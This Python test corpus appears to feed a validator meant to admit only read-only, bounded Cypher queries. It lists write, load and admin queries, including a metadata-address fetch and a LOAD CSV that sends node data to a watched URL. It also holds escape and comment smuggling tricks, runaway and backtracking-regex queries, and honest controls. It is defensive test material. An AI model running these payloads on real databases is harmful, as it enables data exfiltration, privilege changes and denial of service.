"""A corpus of queries that try to do more than read, or never to end, and of honest ones.

`URL` and `FILE` stand for an address and a file that a test watches.
"""

from __future__ import annotations

URL, FILE = "$$URL", "$$FILE"
LOADS = f"LOAD CSV FROM '{URL}' AS line RETURN line"
CALLS = "CALL db.labels() YIELD label RETURN label"

WRITES = {
    "create": "CREATE (b:AwsBox {uid: 'evil'}) RETURN b AS resource",
    "create only": "CREATE (:Evil)",
    "insert": "INSERT (b:Evil) RETURN b AS resource",
    "merge": "MERGE (b:AwsBox {uid: 'evil'}) RETURN b AS resource",
    "set": "MATCH (b:AwsBox) SET b.is_open = false RETURN b AS resource",
    "set labels": "MATCH (b:AwsBox) SET b:Evil RETURN b AS resource",
    "set a computed label": "MATCH (b:AwsBox) SET b:$('Evil') RETURN b AS resource",
    "set all properties": "MATCH (b:AwsBox) SET b = {} RETURN b AS resource",
    "remove": "MATCH (b:AwsBox) REMOVE b.owner RETURN b AS resource",
    "delete": "MATCH (b:AwsBox) DETACH DELETE b RETURN 1 AS resource",
    "nodetach": "MATCH (b:AwsBox) NODETACH DELETE b",
    "foreach": "MATCH (b:AwsBox) FOREACH (x IN [1] | SET b.evil = x) RETURN b AS resource",
    "in a call": "CALL () { CREATE (n:Evil) RETURN n } RETURN n AS resource",
    "in an old call": "CALL { CREATE (n:Evil) RETURN n } RETURN n AS resource",
    "behind a union": "MATCH (b:AwsBox) RETURN b AS resource UNION CREATE (b:Evil) "
    "RETURN b AS resource",
    "after a reading part": "MATCH (b:AwsBox) WITH b LIMIT 1 CREATE (b)-[:EVIL]->(:Evil) "
    "RETURN b AS resource",
    "an index": "CREATE INDEX evil FOR (n:AwsBox) ON (n.evil)",
    "a full-text index": "CREATE FULLTEXT INDEX evil FOR (n:AwsBox) ON EACH [n.evil]",
    "a constraint": "CREATE CONSTRAINT evil FOR (n:Evil) REQUIRE n.id IS UNIQUE",
    "drops a constraint": "DROP CONSTRAINT cirrograph_tests",
}
LOADING = {
    "csv from a file": f"LOAD CSV FROM '{FILE}' AS line MATCH (b:AwsBox) RETURN b AS resource",
    "csv from an address": f"LOAD CSV FROM '{URL}' AS line MATCH (b:AwsBox) RETURN b AS resource",
    "csv with headers": f"LOAD CSV WITH HEADERS FROM '{URL}' AS line RETURN line AS resource",
    "csv from ftp": "LOAD CSV FROM 'ftp://127.0.0.1/x' AS line RETURN line AS resource",
    "csv from metadata": "LOAD CSV FROM 'http://169.254.169.254/latest/' AS l RETURN l AS resource",
    "csv to say what is there": f"MATCH (b:AwsBox) LOAD CSV FROM '{URL}?' + b.owner AS line "
    "RETURN b AS resource",
    "csv in a case": f"RETURN CASE WHEN true THEN COLLECT {{ {LOADS} }} END AS resource",
    "csv in a list": f"RETURN [x IN [1] | COLLECT {{ {LOADS} }}] AS resource",
    "csv in all": f"MATCH (b:AwsBox) WHERE all(x IN [1] WHERE EXISTS {{ {LOADS} }}) "
    "RETURN b AS resource",
    "csv in a count": f"MATCH (b:AwsBox) WHERE [x IN [1] | COUNT {{ {LOADS} }}] <> [] "
    "RETURN b AS resource",
    "csv in an order": "MATCH (b:AwsBox) RETURN b AS resource "
    f"ORDER BY CASE WHEN true THEN COUNT {{ {LOADS} }} END",
    "csv in a pattern": "MATCH (b:AwsBox)-[r WHERE r.x = CASE WHEN true THEN "
    f"COUNT {{ {LOADS} }} END]->() RETURN b AS resource",
    "csv in a path": "MATCH p = shortestPath((b:AwsBox)-[*..3]-(:AwsRoom)) WHERE "
    f"all(n IN nodes(p) WHERE n.x = COUNT {{ {LOADS} }}) RETURN b AS resource",
    "csv in a projection": "MATCH (b:AwsBox) RETURN b {.*, x: [y IN [1] | "
    f"COLLECT {{ {LOADS} }}]}} AS resource",
    "csv in evidence": "MATCH (b:AwsBox) RETURN b AS resource, "
    f"{{x: [y IN [1] | COLLECT {{ {LOADS} }}]}} AS evidence",
    "csv in a label": f"MATCH (b:$([x IN ['A'] | head(COLLECT {{ {LOADS} }})][0])) "
    "RETURN b AS resource",
    "csv after a comment": f"RETURN [x IN [1] | COLLECT {{ LOAD/* */CSV FROM '{URL}' AS l "
    "RETURN l }] AS resource",
    "csv over lines": f"RETURN [x IN [1] | COLLECT {{ load // no\n csv FROM '{URL}' AS l "
    "RETURN l }] AS resource",
    "csv behind a carriage return": f"RETURN 1 AS x //\r, COLLECT {{ {LOADS} }} AS resource",
    "csv in a strange space": f"RETURN [x IN [1] | COLLECT {{ LOAD\u2003CSV FROM '{URL}' AS l "
    "RETURN l }] AS resource",
    "csv in an escape": f"RETURN [x IN [1] | COLLECT {{ LO\\u0041D CSV FROM '{URL}' AS l "
    "RETURN l }] AS resource",
    "csv behind an escaped quote": "RETURN 'a\\u0027 AS x, [y IN [1] | COLLECT { "
    f"{LOADS} }}] AS resource //'",
    "periodic commit": f"USING PERIODIC COMMIT LOAD CSV FROM '{URL}' AS line CREATE (:Evil)",
}
CALLING = {
    "a procedure": "CALL db.labels()",
    "a procedure that yields": "CALL db.labels() YIELD label RETURN label AS resource",
    "a quoted procedure": "CALL `db`.`labels`() YIELD label RETURN label AS resource",
    "makes a label": "CALL db.createLabel('Evil')",
    "makes a property": "CALL db.createProperty('evil')",
    "settings": "CALL dbms.listConfig() YIELD name, value RETURN value AS resource",
    "sets a setting": "CALL dbms.setConfigValue('db.transaction.timeout', '0')",
    "kills": "CALL dbms.killConnections(['bolt-1'])",
    "clears plans": "CALL db.clearQueryCaches()",
    "memory": "CALL dbms.queryJmx('*:*') YIELD attributes RETURN attributes AS resource",
    "settings in a list": "RETURN [x IN [1] | COLLECT { CALL dbms.listConfig() YIELD value "
    "RETURN value }] AS resource",
    "a procedure in all": f"RETURN all(x IN [1] WHERE EXISTS {{ {CALLS} }}) AS resource",
    "a procedure in a case": f"RETURN CASE WHEN true THEN COUNT {{ {CALLS} }} END AS resource",
    "a procedure in an escape": "RETURN [x IN [1] | COLLECT { C\\u0041LL db.labels() YIELD label "
    "RETURN label }] AS resource",
    "a procedure or": f"MATCH (b:AwsBox) WHERE b.x = 1 OR EXISTS {{ {CALLS} }} "
    "RETURN b AS resource",
    "apoc runs": "CALL apoc.cypher.runWrite('CREATE (:Evil)', {}) YIELD value RETURN value",
    "apoc loads": f"CALL apoc.load.json('{URL}') YIELD value RETURN value AS resource",
    "apoc exports": f"CALL apoc.export.csv.all('{FILE}', {{}})",
    "an apoc function": "RETURN apoc.cypher.runFirstColumnSingle('RETURN 1', {}) AS resource",
    "genai": f"RETURN genai.vector.encode('x', 'OpenAI', {{endpoint: '{URL}'}}) AS resource",
    "genai, quoted": "MATCH (b:AwsBox) WHERE `genai`. `vector` .`encode`(b.owner, 'OpenAI', {}) "
    "IS NOT NULL RETURN b AS resource",
    "names of graphs": "UNWIND graph.names() AS name RETURN name AS resource",
}
ADMINISTERING = {
    "shows settings": "SHOW SETTINGS YIELD name, value RETURN value AS resource",
    "shows users": "SHOW USERS",
    "shows databases": "SHOW DATABASES",
    "shows transactions": "SHOW TRANSACTIONS YIELD currentQuery RETURN currentQuery AS resource",
    "shows procedures": "SHOW PROCEDURES",
    "shows functions": "SHOW FUNCTIONS YIELD name RETURN name AS resource",
    "shows indexes": "SHOW INDEXES",
    "ends transactions": "TERMINATE TRANSACTION 'neo4j-transaction-1'",
    "a password": "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'bbbbbbbb'",
    "a user": "CREATE USER evil SET PASSWORD 'bbbbbbbb' CHANGE NOT REQUIRED",
    "drops a user": "DROP USER neo4j",
    "a database": "CREATE DATABASE evil",
    "stops the database": "STOP DATABASE neo4j",
    "another database": "USE system MATCH (n) RETURN n AS resource",
    "another database inside": "CALL () { USE system MATCH (n) RETURN n } RETURN n AS resource",
    "transactions": "MATCH (b:AwsBox) CALL (b) { DETACH DELETE b } IN TRANSACTIONS",
    "reading transactions": "MATCH (b:AwsBox) CALL (b) { RETURN 1 AS x } IN TRANSACTIONS "
    "OF 10 ROWS RETURN b AS resource",
    "concurrent transactions": "MATCH (b:AwsBox) CALL (b) { RETURN 1 AS x } IN 4 CONCURRENT "
    "TRANSACTIONS RETURN b AS resource",
    "a transaction": "BEGIN",
}
HIDING = {
    "explain": "EXPLAIN MATCH (b:AwsBox) RETURN b AS resource",
    "explain a write": "EXPLAIN CREATE (b:Evil) RETURN b AS resource",
    "profile a write": "PROFILE CREATE (b:Evil) RETURN b AS resource",
    "an option": "CYPHER runtime=parallel MATCH (b:AwsBox) RETURN b AS resource",
    "two statements": "MATCH (b:AwsBox) RETURN b AS resource; CREATE (:Evil)",
    "a comment that ends": "/* */ CREATE (b:Evil) /* */ RETURN b AS resource",
    "a line that ends": "// reads only\nCREATE (b:Evil) RETURN b AS resource",
    "a carriage return": "MATCH (b:AwsBox) //\r SET b.evil = 1\n RETURN b AS resource",
    "an escaped word": "MATCH (b:AwsBox) S\\u0045T b.evil = 1 RETURN b AS resource",
    "an escaped line end": "MATCH (b:AwsBox) //\\u000a SET b.evil = 1\nRETURN b AS resource",
    "out of the wrapping": "MATCH (b:AwsBox) RETURN b AS resource } CREATE (e:Evil) "
    "WITH e CALL () { MATCH (b:AwsBox) RETURN b AS resource",
    "out of it by a comment": "MATCH (b:AwsBox) RETURN b AS resource } DETACH DELETE resource //",
    "out of it by an escape": "MATCH (b:AwsBox) RETURN b AS resource \\u007d CREATE (:Evil) //",
    "an open comment": "MATCH (b:AwsBox) RETURN b AS resource /*",
    "an open text": "MATCH (b:AwsBox) RETURN b AS resource, '",
    "a place holder": "MATCH (b:AwsBox) RETURN b AS resource, $$EVIDENCE AS evidence",
    "dollars": "MATCH (b:AwsBox) WHERE b.owner = $$x$$ RETURN b AS resource",
    "a parameter": "MATCH (b:AwsBox) WHERE b.owner = $`units` SET b.evil = 1 RETURN b AS resource",
}
REACHING = {
    f"{kind}: {name}": text
    for kind, queries in (
        ("writes", WRITES), ("loads", LOADING), ("calls", CALLING),
        ("administers", ADMINISTERING), ("hides", HIDING),
    )
    for name, text in queries.items()
}  # fmt: skip

ENDLESS = {  # no deadline ends these: they are not begun
    "reduce": "RETURN reduce(a = 0, x IN range(1, 20000000000) | a + x % 7) AS resource",
    "a text that doubles": "RETURN size(reduce(s = 'a', x IN range(1, 60) | s + s)) AS resource",
    "all": "RETURN all(x IN range(1, 20000000000) WHERE x > 0) AS resource",
    "a list": "RETURN size([x IN range(1, 2000000000) | x]) AS resource",
    "a range with a name": "WITH range(1, 20000000000) AS r "
    "RETURN any(x IN r WHERE x < 0) AS resource",
    "a range of a value": "MATCH (b:AwsBox) RETURN [x IN range(0, b.size)] AS resource",
    "unwound in part": "UNWIND [x IN range(1, 2000000000) | x] AS x RETURN x AS resource",
    "loops in loops": "WITH range(1, 9999) AS r RETURN [a IN r WHERE any(b IN r WHERE "
    "all(c IN r WHERE a + b > c))] AS resource",
    "loops over what is collected": "MATCH (b:AwsBox) WITH collect(b) AS r "
    "RETURN [a IN r WHERE any(b IN r WHERE a = b)] AS resource",
    "loops over a pattern": "MATCH (b:AwsBox) WITH [(b)-->(x) | x] AS r "
    "RETURN [a IN r WHERE any(b IN r WHERE a = b)] AS resource",
    "replace": "WITH 'aaaaaaaa' AS s WITH replace(s, 'a', s) AS s "
    "RETURN replace(s, 'a', s) AS resource",
    "replace with nothing": "RETURN replace('aaa', '', 'bb') AS resource",
    "doubling": "WITH [1] AS a " + "WITH a + a AS a " * 40 + "RETURN size(a) AS resource",
    "a computed pattern": "MATCH (b:AwsBox) WHERE b.name =~ b.owner + '*' RETURN b AS resource",
    "a pattern that goes back": r"RETURN 'aaaa' =~ '(a*)*\\1b' AS resource",
    "a pattern of many parts": "RETURN 'a' =~ '.*a.*a.*a.*a.*a.*a.*a.*a.*a.*b' AS resource",
}

HONEST = {
    "plain": "MATCH (b:AwsBox) WHERE b.is_open RETURN b AS resource, {open: b.is_open} AS evidence",
    "words in comments": "// LOAD CSV, CALL db.labels()\nMATCH (b:AwsBox) /* SET b.x */ RETURN b",
    "words in texts": "MATCH (b:AwsBox) WHERE b.name CONTAINS 'LOAD CSV FROM' OR "
    "b.name = 'CALL db.labels()' RETURN b",
    "words as names": "MATCH (b:AwsBox) RETURN b.load AS load, b.call AS call, b.use AS use, "
    "b.transactions AS transactions",
    "a variable called use": "MATCH (b:AwsBox) WHERE any(use IN b.uses WHERE use = 'x') RETURN b",
    "functions of the language": "MATCH (b:AwsBox) WHERE b.made < datetime() - duration('P1D') "
    "RETURN date.truncate('day', b.made), point.distance(b.at, b.to), "
    "duration.inDays(b.made, datetime())",
    "sub-queries": "MATCH (b:AwsBox) WHERE EXISTS { (b)-[:CLOSED_BY]->(:AwsLid) } "
    "RETURN b, COUNT { (b)--() }, COLLECT { MATCH (b)--(l:AwsLid) RETURN l.name }",
    "a call of a sub-query": "MATCH (b:AwsBox) CALL (b) { MATCH (b)--(l) RETURN count(l) AS n } "
    "RETURN b, n",
    "a path": "MATCH p = (b:AwsBox)-[*1..3]-(:AwsRoom) RETURN p LIMIT 5",
    "a quantified path": "MATCH p = (b:AwsBox)((x)-[r]->(y) WHERE x.name <> ''){1,3}(c) RETURN p",
    "ranges": "UNWIND range(1, 1000000) AS x WITH x WHERE x % 99999 = 0 "
    "RETURN x, [y IN range(0, 3) | y]",
    "loops": "MATCH (b:AwsBox) WHERE any(x IN b.a WHERE all(y IN split(x, ',') WHERE y IN b.c)) "
    "RETURN b",
    "sums": "MATCH (b:AwsBox) RETURN b.name + ': ' + b.owner + ' (' + b.region + ')' AS said",
    "a pattern": "MATCH (b:AwsBox) WHERE b.name =~ '(?i)[a-z]+-\\\\d{2,}' RETURN b",
    "letters of others": "MATCH (b:AwsBox) WHERE b.name = 'M\\u00fcller' RETURN b",
    "replace": "MATCH (b:AwsBox) RETURN replace(b.name, '=', ':') AS name",
}
